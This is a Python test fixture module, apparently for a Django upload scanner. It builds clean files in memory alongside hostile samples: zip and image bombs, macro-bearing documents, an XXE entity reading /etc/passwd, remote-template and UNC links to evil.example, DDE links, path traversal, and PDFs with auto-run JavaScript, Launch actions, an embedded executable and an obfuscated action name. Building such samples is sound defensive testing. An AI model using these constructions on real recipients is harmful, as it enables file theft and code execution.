"""Files people upload, honest ones and others, made in memory."""

import io
import warnings
import zipfile
from typing import Any

import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from docx.oxml import OxmlElement
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

SAME_BYTES = time_machine.travel("2026-01-05T08:00:00Z", tick=False)
"""A package of Office holds the moment of its writing: two made alike are alike."""
CONTENT_TYPES = "[Content_Types].xml"


def named(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


@SAME_BYTES
def docx() -> bytes:
    document, buffer = Document(), io.BytesIO()
    document.add_paragraph("中小企业志愿服务方案")
    document.save(buffer)
    return buffer.getvalue()


@SAME_BYTES
def xlsx(rows: int = 3) -> bytes:
    book, buffer = Workbook(), io.BytesIO()
    for n in range(rows):
        book.active.append([n, "(演示)某某机械有限公司", "91330113DEM0000144"])
    book.save(buffer)
    return repacked(buffer.getvalue(), {})


def picture(form: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, form)
    return buffer.getvalue()


def huge_png_header(side: int = 30_000) -> bytes:
    """A small file that says it is an enormous picture."""
    small = bytearray(picture())
    small[16:24] = side.to_bytes(4, "big") * 2
    import zlib

    small[29:33] = zlib.crc32(bytes(small[12:29])).to_bytes(4, "big")
    return bytes(small)


def repacked(package: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    """An Office file with entries added or replaced."""
    replace = replace or {}
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            new.writestr(entry.filename, replace.get(entry.filename, old.read(entry)))
        for name, content in extra.items():
            new.writestr(name, content)
    return buffer.getvalue()


def bomb() -> bytes:
    """A docx of some kilobytes that unpacks to 60 MB."""
    return repacked(docx(), {"word/media/image1.xml": b"0" * 60_000_000})


def many_entries() -> bytes:
    return repacked(docx(), {f"word/{n}.bin": b"" for n in range(2_100)})


def macro_renamed() -> bytes:
    return repacked(docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macro_by_type() -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx())) as package:
        types = package.read(CONTENT_TYPES).decode()
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return repacked(docx(), {}, {CONTENT_TYPES: types.replace(main, macro).encode()})


def with_entities() -> bytes:
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return repacked(docx(), {"docProps/custom.xml": xml})


_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def relations(kind: str, target: str, *, external: bool = True, namespace: str = _RELATION) -> bytes:
    """The part of an Office file that says what it draws upon."""
    mode = ' TargetMode="External"' if external else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{namespace}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def docx_drawing_on(kind: str, target: str = "https://evil.example/x.dotm", **how: Any) -> bytes:
    return repacked(docx(), {"word/_rels/settings.xml.rels": relations(kind, target, **how)})


def docx_with_strict_template() -> bytes:
    return docx_drawing_on("attachedTemplate", namespace=_STRICT)


def docx_with_utf16_template() -> bytes:
    text = relations("attachedTemplate", "file://evil.example/x.dotm").decode().replace("UTF-8", "UTF-16")
    return repacked(docx(), {"word/_rels/settings.xml.rels": text.encode("utf-16")})


def docx_with_object() -> bytes:
    part = relations("oleObject", "embeddings/oleObject1.bin", external=False)
    return repacked(docx(), {"word/_rels/footer9.xml.rels": part, "word/embeddings/oleObject1.bin": b"MZ"})


def docx_with_package(name: str) -> bytes:
    part = relations("package", f"embeddings/{name}", external=False)
    return repacked(docx(), {"word/charts/_rels/chart1.xml.rels": part, f"word/embeddings/{name}": b"PK"})


def docx_said_twice() -> bytes:
    """Two parts of one name: one reader takes the first, another the last."""
    package = io.BytesIO(docx())
    with zipfile.ZipFile(package, "a") as both, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        both.writestr("word/_rels/document.xml.rels", relations("hyperlink", "https://example.org/"))
    return package.getvalue()


def docx_with_field(code: str) -> bytes:
    """A field whose instruction is cut into runs, as Word itself does."""
    document = Document()
    run = document.add_paragraph()._p
    for piece in (code[:2], code[2:]):
        element = OxmlElement("w:r")
        instruction = OxmlElement("w:instrText")
        instruction.text = piece
        element.append(instruction)
        run.append(element)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_with_external_book() -> bytes:
    link = relations("externalLinkPath", "file:///\\\\evil.example\\share\\x.xlsx")
    return repacked(xlsx(), {"xl/externalLinks/_rels/externalLink1.xml.rels": link})


def xlsx_with_dde() -> bytes:
    """A DDE link names its program in the part itself, without any relation."""
    return repacked(
        xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}
    )


def docx_with_hyperlink() -> bytes:
    return docx_drawing_on("hyperlink", "https://www.miit.gov.cn/")


def climbing() -> bytes:
    return repacked(docx(), {"../../etc/passwd": b"x"})


def _pdf(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _blank() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def pdf() -> bytes:
    return _pdf(_blank())


def pdf_with_script() -> bytes:
    writer = _blank()
    script = {
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.alert(1)"),
    }
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(script)
    return _pdf(writer)


def pdf_launching() -> bytes:
    writer = _blank()
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch")}
    )
    return _pdf(writer)


def pdf_with_file() -> bytes:
    writer = _blank()
    writer.add_attachment("x.exe", b"MZ")
    return _pdf(writer)


def pdf_with_annotation(kind: str) -> bytes:
    """An annotation that carries or plays something."""
    writer = _blank()
    note = DictionaryObject(
        {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(kind)}
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    return _pdf(writer)


def pdf_acting(kind: str) -> bytes:
    """An action of this kind behind the opening of the first page."""
    writer = _blank()
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    return _pdf(writer)


def pdf_with_written_out_script() -> bytes:
    """The name of the action in disguise: #4a is J."""
    return pdf_with_script().replace(b"/JavaScript", b"/#4aavaScript")


def pdf_with_link() -> bytes:
    """A link one may click is no action by itself."""
    writer = _blank()
    uri = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://www.gov.cn/")}
    link = DictionaryObject(
        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): DictionaryObject(uri)}
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _pdf(writer)


def pdf_opening_at_a_page() -> bytes:
    """What honest producers write: open at the first page."""
    writer = _blank()
    place = ArrayObject([writer.pages[0].indirect_reference, NameObject("/FitH"), NumberObject(842)])
    writer.root_object[NameObject("/OpenAction")] = place
    return _pdf(writer)


def pdf_with_password(password: str = "secret") -> bytes:
    writer = _blank()
    writer.encrypt(password, algorithm="RC4-128")
    return _pdf(writer)


def pdf_without_pages() -> bytes:
    return _pdf(PdfWriter())
